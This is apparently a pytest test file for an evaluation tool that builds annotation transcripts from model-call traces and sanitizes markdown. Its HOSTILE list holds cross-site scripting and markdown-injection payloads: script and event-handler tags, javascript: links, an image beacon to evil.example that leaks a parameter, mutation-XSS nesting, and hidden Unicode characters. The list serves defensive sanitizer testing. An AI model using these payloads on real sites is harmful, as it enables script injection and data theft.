import json
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import polars as pl
import pytest

from evalbench.label.annotation.conversation import conversation
from evalbench.label.annotation.markdown import TAGS, render_markdown, visible
from evalbench.label.annotation.transcript import PIECE, read_text, transcript
from evalbench.schema import SPAN

START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
SESSION = {"session_id": "s", "surface": "copilot"}


def spans(*rows):
    """Rows in order, a second apart, of one trace unless they say otherwise."""
    filled = [
        {
            "surface": "copilot",
            "session_id": "s",
            "trace_id": "t",
            "span_id": f"{number:03d}",
            "started_at": START + timedelta(seconds=number),
            "status": "ok",
            **{name: _text(value) for name, value in row.items()},
        }
        for number, row in enumerate(rows)
    ]
    return pl.DataFrame(filled, schema=SPAN)


def _text(value):
    messages = isinstance(value, list) and value and "role" in value[0]
    return json.dumps(value) if messages or isinstance(value, dict) else value


def user(text):
    return {"role": "user", "content": text}


def said(text, *calls):
    calls = [{"id": i, "name": name, "arguments": given} for i, name, given in calls]
    return {"role": "assistant", "content": text, **({"tool_calls": calls} if calls else {})}


def llm(given, answer, **fields):
    return {"kind": "llm", "input_messages": given, "output_messages": [answer], **fields}


def lines(frame):
    return [(turn.role, turn.text.content) for turn in conversation(frame)]


def test_a_history_that_grows_is_told_once_and_a_word_said_twice_is_told_twice():
    history = [{"role": "system", "content": "Be kind."}]
    rows, told = [], [("system", "Be kind.")]
    for number, question in enumerate(["Hello", "yes", "yes"]):
        history = [*history, user(question)]
        answer = said("Right." if number else "Hi.")
        rows.append(llm(history, answer, trace_id=f"t{number}"))
        history = [*history, answer]
        told += [("user", question), ("assistant", answer["content"])]
    assert lines(spans(*rows)) == told


def test_a_source_that_sends_only_what_is_new_keeps_a_repeated_word():
    chat = {"source_format": "openai-chat"}
    rows = [llm([user("yes")], said("Fine."), **chat) for _ in range(2)]
    assert lines(spans(*rows)) == [("user", "yes"), ("assistant", "Fine.")] * 2


def test_two_model_calls_on_one_question_show_the_question_once():
    rows = [
        llm([user("Refund?")], said("intent: refund")),
        llm([user("Refund?")], said("Within 30 days.")),
    ]
    assert [role for role, _ in lines(spans(*rows))] == ["user", "assistant", "assistant"]


def test_what_an_outer_span_repeats_is_told_by_the_inner_one_and_steps_stay_in_place():
    frame = spans(
        {"kind": "agent", "span_id": "root", "input": '{"question": "Hours?"}', "output": "Nine."},
        {
            "kind": "retriever",
            "name": "search",
            "parent_id": "root",
            "input": '{"query": "Hours?"}',
            "documents": [{"id": "help-1", "content": "From nine.", "score": 0.9}],
        },
        llm(
            [{"role": "system", "content": "Brief."}, user("Hours?")],
            said("Nine."),
            parent_id="root",
        ),
    )
    turns = conversation(frame)
    assert [(t.role, t.text.content) for t in turns] == [
        ("system", "Brief."),
        ("user", "Hours?"),
        ("assistant", "Nine."),
    ]
    (step,) = turns[1].steps
    assert (step.kind, step.name, step.given.content) == ("documents", "search", "Hours?")
    assert [(name, text.content) for name, _, text in step.documents] == [("help-1", "From nine.")]


def test_a_reworded_outer_answer_is_shown_after_the_inner_one():
    frame = spans(
        {"kind": "agent", "span_id": "root", "input": "Hours?", "output": "Nine (checked)."},
        llm([user("Hours?")], said("Nine."), parent_id="root"),
    )
    assert lines(frame)[1:] == [("assistant", "Nine."), ("assistant", "Nine (checked).")]


def test_tool_results_meet_their_calls_by_id_even_in_another_order():
    calls = (("a", "look", '{"n": 1}'), ("b", "look", '{"n": 2}'))
    answers = [
        {"role": "tool", "content": "two", "tool_call_id": "b"},
        {"role": "tool", "content": "one", "tool_call_id": "a"},
    ]
    question = [user("Both?")]
    frame = spans(
        llm(question, said(None, *calls)),
        llm([*question, said("", *calls), *answers], said("Done.")),
    )
    turns = conversation(frame)
    assert [turn.role for turn in turns] == ["user", "assistant", "assistant"]
    assert [(s.given.content, s.result.content) for s in turns[1].steps] == [
        ('{"n": 1}', "one"),
        ('{"n": 2}', "two"),
    ]


@pytest.mark.parametrize("called_first", [True, False])
def test_a_tool_span_and_its_call_are_one_step(called_first):
    call = llm([user("Add 20")], said(None, ("", "add", '{"seats":20}')))
    tool = {
        "kind": "tool",
        "tool_name": "add",
        "tool_arguments": '{"seats": 20}',
        "tool_result": "no such account",
        "status": "error",
        "status_message": "404",
    }
    order = [call, tool] if called_first else [tool, call]
    frame = spans(*order, llm([user("Add 20"), {"role": "tool", "content": "404"}], said("Sorry.")))
    steps = [step for turn in conversation(frame) for step in turn.steps]
    assert [(s.name, s.result.content, s.error) for s in steps] == [
        ("add", "no such account", "404")
    ]


def test_an_annotator_is_blind_to_evaluators():
    frame = spans(
        llm([user("Hi")], said("Hello.")),
        {"kind": "evaluator", "span_id": "e", "output": "fails: rude"},
        llm([user("Is this rude?")], said("Yes, rude."), parent_id="e"),
    )
    assert lines(frame) == [("user", "Hi"), ("assistant", "Hello.")]


def test_errors_signals_and_the_reason_are_told_at_the_top():
    failed = {"kind": "llm", "input": "Hi", "status": "error", "status_message": "timeout"}
    session = {**SESSION, "reported": True, "thumbs": 1, "n_retries": 1, "stars": 2.0}
    item = transcript(spans(failed, failed), session, reason="reported")
    assert item["signals"] == ["Reported by the user", "2 of 5 stars", "1 tool call repeated"]
    assert [(e["text"], e["times"]) for e in item["errors"]] == [("timeout", 2)]
    assert item["reason"] == "reported"


def test_a_session_without_a_word_still_has_a_transcript():
    assert transcript(spans({"kind": "chain"}), SESSION)["turns"] == []
    step = conversation(spans({"kind": "tool", "tool_name": "ping", "tool_result": "pong"}))
    assert [turn.role for turn in step] == ["step"]


HOSTILE = [
    "<script>document.title='owned'</script>",
    '<img src=x onerror="document.title=1">',
    "<svg/onload=alert(1)><style>*{display:none}</style>",
    "[run](javascript:alert(1)) [run](JaVaScRiPt:alert(1)) [d](data:text/html,<script>1</script>)",
    "[server](/logout) [other](//evil.example/x) <a href='/api/shutdown'>x</a>",
    "![beacon](https://evil.example/p.png?leak=1) ![](javascript:alert(1))",
    "[![nested](https://evil.example/a.png)](https://evil.example)",
    '[t](https://evil.example "x\\" onmouseover=\\"alert(1)")',
    "<https://evil.example/?a=1> <javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```\n`<b onclick=x>`",
    "| a | b |\n|:-|-:|\n| <img src=x> | ![y](http://evil.example) |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<iframe srcdoc='<script>1</script>'></iframe><base href=//a.example><meta http-equiv=refresh>",
    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img src=1 onerror=1&gt;'>",
    "\x1b[31mred\x1b[0m \u202egnp.exe\u202c a\u200bb \u2066x\u2069 \U000e0041",
    "[x]: javascript:alert(1)\n\n[x] [y][x]",
    "> " * 3000 + "deep",
    "[" * 3000 + "![" * 3000,
]


class Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_leaves_only_harmless_tags_and_links(text):
    for tag, attributes in Seen(render_markdown(text)).tags:
        assert tag in TAGS
        assert attributes == {} or tag == "a"
        assert set(attributes) <= {"href", "rel", "target"}
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
            assert attributes.get("href", "https://").startswith(("http://", "https://", "mailto:"))


def test_harmless_markdown_keeps_its_form():
    html = render_markdown("**Yes**\nand [help](https://a.example)\n\n| a |\n|---|\n| 1 |")
    tags = [tag for tag, _ in Seen(html).tags]
    assert tags == ["p", "strong", "br", "a", "table", "thead", "tr", "th", "tbody", "tr", "td"]


def test_images_and_hidden_characters_are_told_as_text():
    shown = Seen(render_markdown("![x](https://evil.example/p.png)\u202eabc\x1b[31m")).text
    assert shown.strip() == "[image: https://evil.example/p.png]⟦U+202E⟧abc⟦U+001B⟧[31m"
    assert visible("tab\tline\nکتاب\u200cها") == "tab\tline\nکتاب\u200cها"
    assert visible("pass\u200cword") == "pass⟦U+200C⟧word"


def test_every_text_of_a_payload_shows_its_hidden_characters():
    dirty = "\u202ex\x1b[1m"
    frame = spans(
        llm([user(dirty)], {**said(dirty, ("", dirty, dirty)), "reasoning": dirty}),
        {"kind": "tool", "tool_name": dirty, "tool_result": dirty, "status": "error"},
        {"kind": "retriever", "name": dirty, "documents": [{"id": dirty, "content": dirty}]},
    )
    payload = json.dumps(
        transcript(frame, {**SESSION, "release": dirty}, reason=dirty), ensure_ascii=False
    )
    assert "\u202e" not in payload
    assert "\\u001b" not in payload


def test_a_message_of_five_million_characters_is_read_in_pieces_that_join_to_the_whole():
    whole = "".join(f"line {number} *of* many\n" for number in range(240_000))
    frame = spans(llm([user(whole)], said("Too long.")))
    item = transcript(frame, SESSION)
    assert len(json.dumps(item)) < 60_000
    cut = item["turns"][0]["cut"]
    assert (cut["shown"], cut["total"]) == (PIECE, len(whole))
    pieces, start = [whole[:PIECE]], cut["shown"]
    while start is not None:
        answer = read_text(frame, cut["span_id"], cut["field"], start)
        pieces.append(answer["text"])
        start = answer["next"]
    assert "".join(pieces) == whole


@pytest.mark.parametrize("turns", [60, 2000])
def test_a_payload_stays_small_and_says_what_it_left_out(turns):
    rows = [
        llm([user(f"{n} <&> " * 2000)], said(f"{n} * _" * 2000), trace_id=str(n))
        for n in range(turns // 2)
    ]
    item = transcript(spans(*rows), SESSION)
    assert len(json.dumps(item)) < 300_000
    assert len(item["turns"]) + item["left_out"] == turns
    assert (item["left_out"] > 0) == (turns == 2000)
    assert item["turns"][0]["cut"]["total"] == len("0 <&> " * 2000)


def test_every_cut_text_is_found_again():
    long = "x" * 300
    frame = spans(
        llm([user(long)], {**said(long, ("1", "look", long)), "reasoning": long}),
        {"kind": "tool", "tool_name": "look", "tool_arguments": long, "tool_result": long},
        {"kind": "retriever", "input": long, "documents": [{"id": "d", "content": long}]},
        {"kind": "guardrail", "input": json.dumps({"input": long}), "output": long},
    )
    item = transcript(frame, SESSION, limit=100)
    cuts = []

    def collect(node):
        if isinstance(node, dict):
            cuts.extend([node["cut"]] if node.get("cut") else [])
            node = list(node.values())
        for each in node if isinstance(node, list) else ():
            collect(each)

    collect(item["turns"])
    assert len(cuts) == 9
    for cut in cuts:
        assert read_text(frame, cut["span_id"], cut["field"], 100)["text"] == "x" * 200


def test_reading_on_where_nothing_is_says_so():
    with pytest.raises(ValueError, match="'nowhere' has no text"):
        read_text(spans({"kind": "llm"}), "nowhere", "input", 0)
    with pytest.raises(ValueError, match=r"no text 'documents\.4\.content'"):
        read_text(spans({"kind": "llm"}), "000", "documents.4.content", 0)


def test_the_frame_is_left_as_it_was():
    frame = spans(llm([user("a")], said("b")), {"kind": "tool", "tool_name": "x"})
    before = frame.clone()
    transcript(frame, SESSION)
    assert frame.equals(before)
